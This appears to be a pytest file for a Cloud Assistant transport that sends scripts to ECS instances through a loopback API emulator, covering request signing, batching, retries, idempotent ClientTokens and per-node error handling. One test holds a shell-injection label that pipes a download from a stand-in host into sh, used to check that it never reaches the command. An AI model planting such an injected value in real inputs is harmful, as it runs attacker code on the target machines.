"""Cloud Assistant transport: the real core SDK against the loopback ECS/ESS emulator."""

import base64
import logging
import sys
import time

import pytest

from functions.delivery.cloud_assistant import CloudAssistantTransport
from functions.delivery.node_script import DEFAULT_ROOT
from functions.delivery.outcome import outcome
from functions.cloud.rpc import ApiError
from functions.delivery.transport import ScriptMaker
from tests.delivery.conftest import SECRET, TOKEN, rpc, targets
from tests.support.rpc_emulator import ShellNode, SimNode, rpc_signature

pytestmark = pytest.mark.cloud_assistant


def transport(ecs, maker, **kw):
    kw.setdefault("agent_wait_s", 0.3)
    kw.setdefault("poll_s", 0.02)
    kw.setdefault("poll_max_s", 0.05)
    return CloudAssistantTransport(ecs, maker, **kw)


def outcomes(results):
    return {r.instance_id: outcome(r).outcome for r in results}


def test_the_emulator_signature_is_the_documented_one():
    # Alibaba Cloud's own worked example of an RPC signature (ECS DescribeRegions, secret "testsecret").
    params = {"AccessKeyId": "testid", "Action": "DescribeRegions", "Format": "XML",
              "SignatureMethod": "HMAC-SHA1", "SignatureNonce": "3ee8c1b8-83d3-44af-a94f-4e0ad82fd6cf",
              "SignatureVersion": "1.0", "Timestamp": "2016-02-23T12:46:24Z", "Version": "2014-05-26"}
    assert rpc_signature("GET", params, "testsecret") == "OLeaidS1JvxuMvnyHOwuJ+uX5qY="


def test_requests_are_signed_and_carry_the_sts_token(emulator, ecs, maker):
    ids = emulator.add_nodes(2)
    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
    assert emulator.rejected == [] and len(results) == 2
    assert all(params["SecurityToken"] == TOKEN for _, params in emulator.requests)
    run = [p for a, p in emulator.requests if a == "RunCommand"][0]
    assert run["Version"] == "2014-05-26" and run["Type"] == "RunShellScript" and run["KeepCommand"] == "false"
    assert run["ContentEncoding"] == "Base64" and run["EnableParameter"] == "true" and run["ClientToken"]
    assert [run["InstanceId.1"], run["InstanceId.2"]] == ids


def test_a_wrong_secret_is_refused_by_the_emulator(emulator, maker):
    with pytest.raises(ApiError) as err:
        rpc(emulator, secret="not-the-secret").call("DescribeCloudAssistantStatus", {"RegionId": "x"})
    assert err.value.code in ("SignatureDoesNotMatch", "InvalidAccessKeySecret")


def test_150_warm_nodes_take_two_runcommands_and_polls_per_batch(emulator, ecs, maker):
    emulator.add_nodes(150, lambda iid: SimNode(duration_s=0.2))
    t = transport(ecs, maker)
    results = t.run(targets(150, prefix="i-emu"))
    assert set(outcomes(results).values()) == {"partitioned"}
    assert emulator.calls["RunCommand"] == 2 and emulator.calls["SendFile"] == 0
    assert emulator.calls["DescribeCloudAssistantStatus"] == 2  # 100 instances per call, no PageSize
    assert all("PageSize" not in p and "MaxResults" not in p for a, p in emulator.requests
               if a == "DescribeCloudAssistantStatus")
    # each poll reads its whole batch in pages of 50 (MaxResults + NextToken): never one call per instance
    reads = {}
    for action, params in emulator.requests:
        if action == "DescribeInvocationResults":
            assert "InstanceId" not in params and params["MaxResults"] == "50"
            assert "PageSize" not in params and "PageNumber" not in params  # deprecated (ECS SDK model)
            reads.setdefault(params["InvokeId"], []).append(2 if "NextToken" in params else 1)
    assert len(reads) == 2
    for pages in sorted(reads.values(), key=len):
        # every round starts at page 1; page 2 is read only when page 1 is all final (the batch may be
        # done), so the last round reads both and the earlier ones page 1 alone, or both
        rounds = pages.count(1)
        assert pages[0] == 1 and "2, 2" not in str(pages) and pages.count(2) <= rounds
        assert pages == [1] * rounds or pages[-1] == 2
    assert t.largest_request <= 24 * 1024


def test_one_node_failing_never_hides_the_others(emulator, ecs, maker):
    ids = emulator.add_nodes(6)
    emulator.nodes[ids[1]].agent_ready = False  # never comes up
    emulator.nodes[ids[2]].released = True  # released mid-run
    emulator.nodes[ids[3]].timeout = True  # script ran past its Timeout
    emulator.nodes[ids[4]].exit_code = 4
    emulator.nodes[ids[4]].result = {"outcome": "failed", "error": {"code": "gpu-busy", "message": "busy"}}
    emulator.nodes[ids[5]].ready_after = 2  # agent comes up on the third status query
    results = {r.instance_id: r for r in transport(ecs, maker, agent_wait_s=1).run(targets(6, prefix="i-emu"))}
    got = {iid: (outcome(r).outcome, r.error) for iid, r in results.items()}
    assert got[ids[0]] == ("partitioned", None) and got[ids[5]] == ("partitioned", None)
    assert got[ids[1]] == ("failed", "agent-not-ready")
    assert got[ids[2]] == ("failed", "instance-released")
    assert got[ids[3]] == ("failed", "execution-timeout")
    assert got[ids[4]][0] == "failed" and "gpu-busy: busy" in outcome(results[ids[4]]).reason


def test_throttling_and_5xx_are_retried_with_backoff(emulator, ecs, maker):
    emulator.add_nodes(2)
    emulator.fail_next("DescribeCloudAssistantStatus", "Throttling.User", 400)
    emulator.fail_next("RunCommand", "ServiceUnavailable", 503)
    emulator.fail_next("DescribeInvocationResults", "InternalError", 500, times=2)
    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
    assert set(outcomes(results).values()) == {"partitioned"}
    assert emulator.calls["RunCommand"] == 2 and ecs.calls["RunCommand"] == 2
    # the retried RunCommand reused its ClientToken: one invocation, not two
    tokens = [p["ClientToken"] for a, p in emulator.requests if a == "RunCommand"]
    assert tokens[0] == tokens[1] and len(emulator.invocations) == 1


def test_a_persistent_api_error_fails_only_its_batch(emulator, ecs, maker):
    emulator.add_nodes(101)
    first = emulator.add_nodes(0) or "i-emu0000"
    emulator.fail_next("RunCommand", "InternalError", 500, times=4,  # the first batch exhausts its attempts
                       when=lambda params: params.get("InstanceId.1") == first)
    results = transport(ecs, maker).run(targets(101, prefix="i-emu"))
    kinds = sorted(set((outcome(r).outcome, r.error) for r in results))
    assert ("failed", "api-error") in kinds and ("partitioned", None) in kinds


def test_cold_nodes_get_the_bundle_by_sendfile_then_run_once_more(emulator, ecs, fake_bundle):
    emulator.add_nodes(60, lambda iid: SimNode(bundle=False))
    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
    t = transport(ecs, maker)
    results = t.run(targets(60, prefix="i-emu"))
    assert set(outcomes(results).values()) == {"partitioned"}
    parts = len(fake_bundle.chunks())
    assert emulator.calls["SendFile"] == parts * 2  # 60 instances: two calls of <= 50 per part
    assert emulator.calls["RunCommand"] == 2
    for action, params in emulator.requests:
        if action == "SendFile":
            assert len(params["Content"]) <= 32 * 1024 and "InstanceId.51" not in params
            assert params["TargetDir"] == DEFAULT_ROOT + "/incoming" and params["ContentType"] == "Base64"


def test_the_whole_path_runs_for_real_on_shell_nodes(emulator, ecs, fake_bundle, tmp_path):
    """ShellNode runs the decoded command in a subprocess against its own directory: the agent check, the
    bundle-missing answer, SendFile parts, assembly, hash check, unpack and the node's JSON."""
    ids = emulator.add_nodes(3, lambda iid: ShellNode(str(tmp_path / iid), DEFAULT_ROOT))
    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
    results = transport(ecs, maker).run(targets(3, prefix="i-emu"))
    docs = {r.instance_id: r.result for r in results}
    assert [outcome(r).outcome for r in results] == ["partitioned"] * 3
    assert docs[ids[1]]["node_name"] == "cn-test.10.0.0.1"  # {{ACS::InstanceId}} picked its own name
    assert emulator.calls["RunCommand"] == 2 and emulator.calls["SendFile"] == len(fake_bundle.chunks())
    before = dict(emulator.calls)
    results = transport(ecs, maker).run(targets(3, prefix="i-emu"))  # a rerun sends nothing twice
    assert emulator.calls["SendFile"] == before["SendFile"] and emulator.calls["RunCommand"] == before["RunCommand"] + 1
    assert all(r.result["outcome"] == "success" for r in results)


def test_a_hostile_label_never_appears_in_the_command(emulator, ecs, maker):
    emulator.add_nodes(1)
    hostile = "1g.5gb'; curl evil.example | sh; echo '"
    transport(ecs, maker).run(targets(1, value=hostile, prefix="i-emu"))
    content = [p["CommandContent"] for a, p in emulator.requests if a == "RunCommand"][0]
    assert hostile not in base64.b64decode(content).decode()


def test_credentials_never_reach_logs_or_results(emulator, ecs, maker, caplog):
    caplog.set_level(logging.DEBUG)
    emulator.add_nodes(2)
    emulator.fail_next("RunCommand", "Throttling", 400)
    emulator.fail_next("DescribeInvocationResults", "InvalidParameter", 400, times=1)
    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
    text = caplog.text + repr(results) + repr(ecs.__dict__)
    assert SECRET not in text and TOKEN not in text


def test_a_slow_answer_times_out_and_the_retry_is_the_same_invocation(emulator, maker):
    emulator.add_nodes(2)
    emulator.slow_next("RunCommand", 2.5)  # served, but answered after the client gave up
    ecs = rpc(emulator, timeout_s=1)  # read timeout 1 s (ACK_MIG_API_TIMEOUT_S, 10 s by default)
    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
    assert set(outcomes(results).values()) == {"partitioned"}
    assert ecs.calls["RunCommand"] == 2 and len(emulator.invocations) == 1


def test_a_retry_while_the_first_runcommand_is_still_processed_is_the_same_invocation(emulator, maker):
    """The first RunCommand is still being processed when the client, its read timed out, sends it again with
    the same ClientToken: ECS answers 403 IdempotentProcessing, "Try again later" (the error tables of ECS's
    ClientToken APIs). Read as a refusal, the batch failed as api-error while its command went on to run on
    every node; it is tried again, and the next try gets the one invocation."""
    from functions.base.settings import Credentials, Endpoint
    from functions.cloud.rpc import ECS_VERSION, Backoff, RpcClient

    emulator.add_nodes(2)
    emulator.hold_processing_next("RunCommand")

    def pause(seconds):  # between tries: until a held request the last retry released is decided (a fixed
        until = time.monotonic() + 30  # pause raced its thread on a loaded machine; 30 s is a hang guard)
        while any(held.is_set() for held in list(emulator.processing.values())) and time.monotonic() < until:
            time.sleep(0.01)

    # read timeout 1 s
    ecs = RpcClient("ecs", ECS_VERSION, emulator.region, Credentials(emulator.access_key_id, SECRET, TOKEN),
                    Endpoint(emulator.endpoint.split("://", 1)[1], "http"), timeout_s=1,
                    backoff=Backoff(4, sleep=pause))
    results = transport(ecs, maker).run(targets(2, prefix="i-emu"))
    assert set(outcomes(results).values()) == {"partitioned"}, results
    runs = [e for e in emulator.exchanges if e.action == "RunCommand"]
    # in the order answered: the held first request is answered after its retry's refusal
    assert sorted((e.status, (e.answer or {}).get("Code") or "") for e in runs) == [
        (200, ""), (200, ""), (403, "IdempotentProcessing")]
    assert len({e.params["ClientToken"] for e in runs}) == 1 and len(emulator.invocations) == 1


def test_a_retry_while_the_first_runcommand_is_decided_never_makes_a_second_invocation(emulator, monkeypatch):
    """The emulator's model of ECS's ClientToken: a request is "still processing" until its invocation exists.
    The held first request left ``processing`` and only then, outside the lock, registered its invocation: a
    retry in between (the first request's thread not scheduled, on a loaded machine) found neither and made a
    second invocation. Here the first request stops as it is decided if it is then neither processing nor
    answered, and the retry comes then."""
    import threading
    from types import SimpleNamespace

    from tests.support import rpc_emulator

    (iid,) = emulator.add_nodes(1)
    params = {"InstanceId.1": iid, "Type": "RunShellScript", "ContentEncoding": "Base64",
              "CommandContent": base64.b64encode(b"true").decode(), "KeepCommand": "false",
              "EnableParameter": "false", "ClientToken": "token-1"}
    emulator.hold_processing_next("RunCommand")
    left, go_on = threading.Event(), threading.Event()
    real_decode = base64.b64decode

    def b64decode(data, *args):  # the script read as a request is decided: the first one stops there if it is
        if not left.is_set() and "token-1" not in emulator.processing and "token-1" not in emulator.client_tokens:
            left.set()  # neither processing nor answered: any retry now would find nothing
            go_on.wait(30)
        return real_decode(data, *args)

    monkeypatch.setattr(rpc_emulator, "base64", SimpleNamespace(**dict(vars(base64), b64decode=b64decode)))
    first = {}
    thread = threading.Thread(target=lambda: first.setdefault("answer", rpc(emulator, attempts=1, timeout_s=30).call(
        "RunCommand", dict(params))))
    thread.start()
    try:
        until = time.monotonic() + 30
        while "token-1" not in emulator.processing and time.monotonic() < until:
            time.sleep(0.01)
        with pytest.raises(ApiError, match="IdempotentProcessing"):  # the retry releases the held request
            rpc(emulator, attempts=1).call("RunCommand", dict(params))
        until = time.monotonic() + 30  # the first request is decided, or stopped neither processing nor answered
        while not left.is_set() and "token-1" not in emulator.client_tokens and time.monotonic() < until:
            time.sleep(0.01)
        try:
            again = rpc(emulator, attempts=1).call("RunCommand", dict(params))
        except ApiError as exc:  # still processing: as ECS says until the invocation exists
            assert "IdempotentProcessing" in str(exc)
            again = None
    finally:
        go_on.set()
        thread.join(30)
    assert len(emulator.invocations) == 1, emulator.invocations
    assert again is None or again["InvokeId"] == first["answer"]["InvokeId"]


def test_every_batch_is_submitted_before_any_is_polled_then_one_loop_polls_them_all(emulator, ecs, maker):
    """300 nodes, 3 batches, only 2 calls in flight: a worker that submits and then polls its own batch
    would poll batch 1 before batch 3 is in. Here every RunCommand reaches the API before the first
    DescribeInvocationResults, and each poll round reads every open invocation."""
    emulator.add_nodes(300, lambda iid: SimNode(duration_s=0.3))
    t = transport(ecs, maker, calls_in_flight=2)
    results = t.run(targets(300, prefix="i-emu"))
    assert set(outcomes(results).values()) == {"partitioned"}
    order = [action for action, _ in emulator.requests]
    first_poll = order.index("DescribeInvocationResults")
    assert order.count("RunCommand") == 3 and max(i for i, a in enumerate(order) if a == "RunCommand") < first_poll
    assert [kind for kind, _ in t.trace[:3]] == ["submit"] * 3 and {k for k, _ in t.trace[3:]} == {"poll", "round"}
    rounds = []
    for kind, invoke_id in t.trace[3:]:
        if kind == "round":
            rounds.append(set())
        else:
            rounds[-1].add(invoke_id)
    # one loop: the first round reads all three; each round reads every invocation still open, and a
    # finished one is never read again
    assert rounds[0] == {i for k, i in t.trace[:3]} and all(b <= a for a, b in zip(rounds, rounds[1:]))
    assert emulator.calls["DescribeCloudAssistantStatus"] == 3  # 100 ids per call, all agents up at once
    polls = {}
    for action, params in emulator.requests:
        if action == "DescribeInvocationResults":
            assert params["MaxResults"] == "50"
            if "NextToken" not in params:
                polls[params["InvokeId"]] = polls.get(params["InvokeId"], 0) + 1
    assert len(polls) == 3 and sum(polls.values()) == sum(len(r) for r in rounds)
    # page 2 is read only in a round where page 1 was all final: at least once per batch, never more than page 1
    pages2 = sum(1 for a, p in emulator.requests if a == "DescribeInvocationResults" and "NextToken" in p)
    assert 3 <= pages2 <= sum(polls.values())
    assert emulator.calls["DescribeInvocationResults"] == sum(polls.values()) + pages2


def test_a_whole_call_refusal_reports_the_bad_instances_and_runs_the_rest(emulator, ecs, maker):
    """RunCommand refuses the whole call when one instance is stopped, released or lost its agent after
    the agent check. The status is asked again, those instances are reported, the rest run."""
    emulator.reject_unrunnable = True
    ids = emulator.add_nodes(120)
    emulator.nodes[ids[5]].lost_after = 1  # stopped after its agent answered "true"
    emulator.nodes[ids[50]].lost_after, emulator.nodes[ids[50]].lost_as = 1, "agent-gone"
    emulator.nodes[ids[110]].lost_after, emulator.nodes[ids[110]].lost_as = 1, "released"
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(120, prefix="i-emu"))}
    assert results[ids[5]].error == "agent-unavailable" and results[ids[50]].error == "agent-unavailable"
    assert results[ids[110]].error == "instance-gone"
    assert "InvalidInstanceStatus" in results[ids[5]].message or "InvalidInstance" in results[ids[5]].message
    good = [iid for iid in ids if iid not in (ids[5], ids[50], ids[110])]
    assert {outcome(results[iid]).outcome for iid in good} == {"partitioned"}
    # 2 refused + 2 resubmitted; the status: 2 calls (100 + 20 ids) first, then 1 per refused batch
    assert emulator.calls["RunCommand"] == 4 and emulator.calls["DescribeCloudAssistantStatus"] == 4
    sent = [p for a, p in emulator.requests if a == "RunCommand"]
    assert sorted(len([k for k in p if k.startswith("InstanceId.")]) for p in sent) == [19, 20, 98, 100]


def test_a_refusal_the_status_cannot_explain_is_found_by_halving(emulator, ecs, maker):
    emulator.reject_unrunnable = True
    ids = emulator.add_nodes(100)
    bad = ids[37]
    emulator.fail_next("RunCommand", "InvalidInstanceStatus", 400, times=20,
                       when=lambda params: bad in params.values())
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(100, prefix="i-emu"))}
    assert results[bad].error == "agent-unavailable" and "InvalidInstanceStatus" in results[bad].message
    assert {outcome(r).outcome for iid, r in results.items() if iid != bad} == {"partitioned"}
    assert emulator.calls["RunCommand"] <= 1 + 2 * 7  # halving 100 down to 1: at most 7 levels


def test_sendfile_refusing_a_whole_call_fails_only_the_bad_instance(emulator, ecs, fake_bundle):
    emulator.reject_unrunnable = True
    ids = emulator.add_nodes(4, lambda iid: SimNode(bundle=False))
    node = emulator.nodes[ids[2]]
    first_run = node.run

    def run_then_stop(script, timeout_s):  # the instance stops right after its first (bundle-missing) run
        answer = first_run(script, timeout_s)
        node.lost_after = 0
        return answer

    node.run = run_then_stop
    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(4, prefix="i-emu"))}
    assert results[ids[2]].error == "agent-unavailable" and "SendFile" in results[ids[2]].message
    assert {outcome(results[i]).outcome for i in ids if i != ids[2]} == {"partitioned"}
    parts = len(fake_bundle.chunks())
    assert emulator.calls["SendFile"] == 2 * parts  # each part: refused once, then sent to the other three


def test_an_old_agent_runs_a_script_with_its_own_id_instead_of_the_builtin_parameter(emulator, ecs, fake_bundle,
                                                                                      tmp_path):
    """{{ACS::InstanceId}} needs Linux agent 2.2.3.309; an older agent (the emulator answers it
    ClientNeedUpgrade) gets a script with its instance id written in, and picks its own node name."""
    ids = emulator.add_nodes(3, lambda iid: ShellNode(str(tmp_path / iid), DEFAULT_ROOT))
    emulator.nodes[ids[1]].agent_version = "2.2.3.256"
    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
    t = transport(ecs, maker)
    results = {r.instance_id: r for r in t.run(targets(3, prefix="i-emu"))}
    assert [outcome(results[i]).outcome for i in ids] == ["partitioned"] * 3
    assert results[ids[1]].result["node_name"] == "cn-test.10.0.0.1"
    assert t.versions[ids[1]] == (2, 2, 3, 256) and t.versions[ids[0]] == (2, 5, 3, 0)
    old = [p for a, p in emulator.requests if a == "RunCommand" and p.get("InstanceId.1") == ids[1]]
    assert old and all(p["EnableParameter"] == "false" and "InstanceId.2" not in p for p in old)
    script = base64.b64decode(old[0]["CommandContent"]).decode()
    assert "{{ACS::InstanceId}}" not in script and "'%s'" % ids[1] in script


def test_an_instance_the_status_does_not_know_is_gone_without_waiting_out_the_agent_wait(emulator, ecs, maker):
    ids = emulator.add_nodes(2)
    results = {r.instance_id: r for r in transport(ecs, maker, agent_wait_s=30).run(
        targets(2, prefix="i-emu") + targets(1, prefix="i-released"))}
    assert results["i-released0000"].error == "instance-gone"
    assert {outcome(results[i]).outcome for i in ids} == {"partitioned"}
    assert emulator.calls["DescribeCloudAssistantStatus"] == 2  # two rounds (one page each), not 30 s


def test_an_agent_without_a_version_shares_the_batch_and_fails_alone_if_it_is_too_old(emulator, ecs, maker):
    """No CloudAssistantVersion is taken as current (no 100 calls on a guess); an agent that is in fact too
    old answers ClientNeedUpgrade for its own instance only."""
    ids = emulator.add_nodes(3)
    rows = emulator._DescribeCloudAssistantStatus

    def without_versions(params):  # the service leaves the field out
        answer = rows(params)
        for row in answer["InstanceCloudAssistantStatusSet"]["InstanceCloudAssistantStatus"]:
            row.pop("CloudAssistantVersion", None)
        return answer

    emulator._DescribeCloudAssistantStatus = without_versions
    emulator.nodes[ids[2]].agent_version = "2.2.0.106"
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(3, prefix="i-emu"))}
    assert emulator.calls["RunCommand"] == 1
    assert [outcome(results[i]).outcome for i in ids[:2]] == ["partitioned"] * 2
    assert results[ids[2]].error == "agent-not-ready" and "ClientNeedUpgrade" in results[ids[2]].message


def test_a_batch_refused_whatever_is_left_out_costs_a_bounded_number_of_calls(emulator, ecs, maker):
    ids = emulator.add_nodes(100)
    emulator.fail_next("RunCommand", "InvalidInstanceStatus", 400, times=1000)  # every call, every subset
    results = transport(ecs, maker).run(targets(100, prefix="i-emu"))
    assert len(results) == len(ids) and all(outcome(r).outcome == "failed" for r in results)
    assert {r.error for r in results} <= {"agent-unavailable", "api-error"}
    assert emulator.calls["RunCommand"] == 1 + 30  # not 2 x 100 - 1 by halving down to every instance


def test_another_error_while_a_refused_batch_is_searched_fails_only_that_part(emulator, ecs, maker):
    emulator.reject_unrunnable = True
    ids = emulator.add_nodes(100)
    emulator.nodes[ids[10]].lost_after = 1  # stopped after the agent check: the first call is refused
    # the resubmit of the other 99 then fails for good (a 5xx through every retry)
    emulator.fail_next("RunCommand", "InternalError", 500, times=4, when=lambda p: "InstanceId.99" in p
                       and "InstanceId.100" not in p)
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(100, prefix="i-emu"))}
    assert results[ids[10]].error == "agent-unavailable"
    assert {results[i].error for i in ids if i != ids[10]} == {"api-error"}


CLUSTER_TAG = ("ack.aliyun.com", "c-emulated")


def test_an_instance_ram_refuses_fails_alone_and_the_rest_runs(emulator, ecs, maker):
    """The role may run commands only on instances tagged with the cluster (template.yml's condition):
    RAM refuses the WHOLE RunCommand with 403 Forbidden.RAM when one target lacks the tag. That instance
    ends permission-denied on its own; the other nine are partitioned."""
    emulator.ram_tag = CLUSTER_TAG
    ids = emulator.add_nodes(10, lambda iid: SimNode(tags=dict([CLUSTER_TAG])))
    emulator.nodes[ids[3]].tags = {}  # e.g. an instance attached to the pool from outside, never tagged
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(10, prefix="i-emu"))}
    assert results[ids[3]].error == "permission-denied" and "Forbidden.RAM" in results[ids[3]].message
    assert {outcome(results[i]).outcome for i in ids if i != ids[3]} == {"partitioned"}
    refused = [ex for ex in emulator.exchanges if ex.action == "RunCommand" and ex.status == 403]
    assert refused and all(ex.answer["Code"] == "Forbidden.RAM" for ex in refused)
    assert emulator.calls["RunCommand"] <= 1 + 2 * 4  # halving 10 down to 1


def test_sendfile_refused_by_ram_fails_only_that_instance(emulator, ecs, fake_bundle):
    emulator.ram_tag = CLUSTER_TAG
    ids = emulator.add_nodes(4, lambda iid: SimNode(bundle=False, tags=dict([CLUSTER_TAG])))
    node = emulator.nodes[ids[1]]
    first_run = node.run

    def run_then_untag(script, timeout_s):  # its tag is removed right after its first (bundle-missing) run
        answer = first_run(script, timeout_s)
        node.tags = {}
        return answer

    node.run = run_then_untag
    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(4, prefix="i-emu"))}
    assert results[ids[1]].error == "permission-denied" and "SendFile" in results[ids[1]].message
    assert {outcome(results[i]).outcome for i in ids if i != ids[1]} == {"partitioned"}


@pytest.mark.parametrize("unknown_status", ["omit", "refuse"])
def test_a_released_instance_in_the_status_call_is_gone_whichever_way_the_api_answers(emulator, ecs, maker,
                                                                                      unknown_status):
    """What DescribeCloudAssistantStatus answers for an unknown id is not documented: no row, or a refusal
    of the whole call. Either way that instance ends instance-gone and the other 99 run."""
    emulator.unknown_status = unknown_status
    ids = emulator.add_nodes(99)
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(99, prefix="i-emu") +
                                                                   targets(1, prefix="i-released"))}
    assert results["i-released0000"].error == "instance-gone"
    assert {outcome(results[i]).outcome for i in ids} == {"partitioned"}
    assert emulator.calls["DescribeCloudAssistantStatus"] <= 2 + 2 * 7


def test_results_are_read_by_next_token_and_a_foreign_token_is_refused(emulator, ecs, maker):
    emulator.add_nodes(100, lambda iid: SimNode())
    transport(ecs, maker).run(targets(100, prefix="i-emu"))
    reads = [p for a, p in emulator.requests if a == "DescribeInvocationResults"]
    assert any("NextToken" in p for p in reads) and all(p["MaxResults"] == "50" for p in reads)
    with pytest.raises(ApiError, match="NextToken"):
        ecs.call("DescribeInvocationResults", {"RegionId": ecs.region, "InvokeId": reads[0]["InvokeId"],
                                               "MaxResults": 50, "NextToken": "not-a-token-we-issued"})


def test_results_paged_smaller_than_asked_are_all_read(emulator, ecs, maker):
    """MaxResults is a maximum: a service answering 10 rows a page for a batch of 100 took 10 pages, and the
    reader stopped after 4 (a fixed cap for 2 pages of 50), so 60 finished nodes were never read and ended
    execution-timeout at the poll deadline (node deadline + 120 s)."""
    emulator.add_nodes(100)
    emulator.results_page_rows = 10
    now = [0.0]
    t = transport(ecs, maker, poll_s=1.0, poll_max_s=10.0, clock=lambda: now[0],
                  sleep=lambda s: now.__setitem__(0, now[0] + max(s, 0.001)))
    results = t.run(targets(100, prefix="i-emu"))
    assert set(outcomes(results).values()) == {"partitioned"}, sorted(set((str(r.error), r.message) for r in results))
    assert now[0] < 10  # read in the first rounds, not at the deadline


def _row_of(iid, field, value):
    def change(answer):
        for row in answer["Invocation"]["InvocationResults"]["InvocationResult"]:
            if row["InstanceId"] == iid:
                row[field] = value
    return change


@pytest.mark.contract_exempt("the emulator answers off the ECS model on purpose")
@pytest.mark.parametrize("field, value, error", [
    ("Output", 12345, "no-result"),  # b64decode raised TypeError
    ("Output", ["eyJ9"], "no-result"),
    # unhashable: `in FINAL` raised TypeError; the row's InvokeRecordStatus (Finished) makes it final
    ("InvocationStatus", ["Success"], None),
    ("InvokeRecordStatus", ["Finished"], None),  # reads as absent: the row's InvocationStatus (Success) decides
    ("InstanceId", {"id": "x"}, "execution-timeout"),  # unhashable: `in wanted` raised TypeError
    ("ErrorCode", ["ExecutionTimeout"], None),  # unhashable: ERRORS.get raised TypeError; now absent
])
def test_a_result_row_off_the_model_fails_that_node_alone(emulator, ecs, maker, field, value, error):
    """One row of DescribeInvocationResults with a field of another type raised out of the transport's poll
    loop, and every node of the event, finished ones of other batches included, ended internal-error (the
    reader rule, docs/security.md: a part of another shape reads as absent, that item alone). An odd
    ErrorCode reads as none: the node's own result stands."""
    ids = emulator.add_nodes(101)
    emulator.mangle_next("DescribeInvocationResults", _row_of(ids[1], field, value), times=10000)
    now = [0.0]
    t = transport(ecs, maker, poll_s=1.0, poll_max_s=10.0, clock=lambda: now[0],
                  sleep=lambda s: now.__setitem__(0, now[0] + max(s, 0.001)))
    results = {r.instance_id: r for r in t.run(targets(101, prefix="i-emu"))}
    assert results[ids[1]].error == error
    assert outcome(results[ids[1]]).outcome == ("partitioned" if error is None else "failed")
    assert {outcome(results[i]).outcome for i in ids if i != ids[1]} == {"partitioned"}


@pytest.mark.contract_exempt("an InvocationStatus outside the documented set, on purpose")
@pytest.mark.parametrize("status", ["Completed", "", None])
def test_a_row_whose_record_is_finished_is_final_whatever_its_invocation_status(emulator, ecs, maker, status):
    """A result row whose InvocationStatus is outside the documented set (a value added later, or none) was polled
    until the poll deadline (node deadline + 120 s) and ended execution-timeout, though its InvokeRecordStatus said
    Finished, final per the ECS SDK model: its outcome now comes from ExitCode, ErrorCode and Output at once. A
    row not yet finished (Running) is still polled."""
    ids = emulator.add_nodes(3, lambda iid: SimNode(duration_s=2.0))

    def odd(answer):
        for row in answer["Invocation"]["InvocationResults"]["InvocationResult"]:
            if row["InstanceId"] == ids[1]:
                row["InvocationStatus"] = status
    emulator.mangle_next("DescribeInvocationResults", odd, times=10000)
    now = [0.0]
    t = transport(ecs, maker, poll_s=1.0, poll_max_s=10.0, clock=lambda: now[0],
                  sleep=lambda s: (time.sleep(min(s, 0.05)), now.__setitem__(0, now[0] + max(s, 0.001))))
    results = {r.instance_id: r for r in t.run(targets(3, prefix="i-emu"))}
    assert {i: outcome(r).outcome for i, r in results.items()} == dict.fromkeys(ids, "partitioned")
    assert now[0] < 60, now[0]  # read once the node finished, not at the poll deadline (630 s here)


@pytest.mark.contract_exempt("the emulator answers off the ECS model on purpose")
def test_an_agent_status_or_send_result_off_the_model_fails_no_other_node(emulator, ecs, fake_bundle):
    """A status row naming its instance by a list, and a DescribeSendFileResults answer whose Invocation
    list is text, raised out of the transport (unhashable key; str has no get) and failed every node."""
    ids = emulator.add_nodes(3, lambda iid: SimNode(bundle=False))

    def odd_status(answer):
        answer["InstanceCloudAssistantStatusSet"]["InstanceCloudAssistantStatus"].append(
            {"InstanceId": [ids[0]], "CloudAssistantStatus": "true"})

    emulator.mangle_next("DescribeCloudAssistantStatus", odd_status)
    emulator.mangle_next("DescribeSendFileResults", lambda answer: answer.update(Invocations={"Invocation": "odd"}))
    maker = ScriptMaker(fake_bundle, 30, DEFAULT_ROOT, sys.executable)
    now = [0.0]
    t = transport(ecs, maker, poll_s=1.0, poll_max_s=10.0, clock=lambda: now[0],
                  sleep=lambda s: now.__setitem__(0, now[0] + max(s, 0.001)))
    results = t.run(targets(3, prefix="i-emu"))
    got = sorted((outcome(r).outcome, r.error) for r in results)
    # the send whose answer was odd is retried by the next DescribeSendFileResults; every node runs
    assert got == [("partitioned", None)] * 3, got


@pytest.mark.contract_exempt("the emulator answers off the ECS model on purpose")
@pytest.mark.parametrize("action, change", [
    ("DescribeInvocationResults", lambda answer: [answer]),  # a JSON list: `.get` raised AttributeError
    ("RunCommand", lambda answer: answer.update(InvokeId=["t-1"])),  # a list became a dict key: TypeError
])
def test_an_answer_that_is_no_object_or_an_invoke_id_that_is_no_text_fails_only_its_batch(emulator, ecs, maker,
                                                                                         action, change):
    ids = emulator.add_nodes(101)
    emulator.mangle_next(action, change)  # refused at once (not retried): that call alone
    results = {r.instance_id: r for r in transport(ecs, maker).run(targets(101, prefix="i-emu"))}
    failed = {i for i, r in results.items() if outcome(r).outcome == "failed"}
    assert failed and len(failed) <= 100 and {results[i].error for i in failed} == {"api-error"}
    assert {outcome(results[i]).outcome for i in ids if i not in failed} == {"partitioned"}


@pytest.mark.contract_exempt("the emulator answers off the ECS model on purpose")
@pytest.mark.parametrize("version", ["9" * 5000, "2.2." + "1" * 5000, "1." * 3000 + "1"],
                         ids=["5000-digits", "5000-digit-part", "3001-parts"])
def test_an_agent_version_past_any_real_one_reads_as_unknown_and_fails_no_other_node(emulator, ecs, maker, version):
    """CloudAssistantVersion is text: one of 5,000 digits matched the version pattern and ``int`` of it raised
    ValueError (Python's 4,300-digit limit) out of the agent wait, and every node of the event failed. A version
    past the bound (4 parts of at most 9 digits each, as "2.2.3.309") reads as none reported: that node gets
    the shared script, as an agent that reports no version does."""
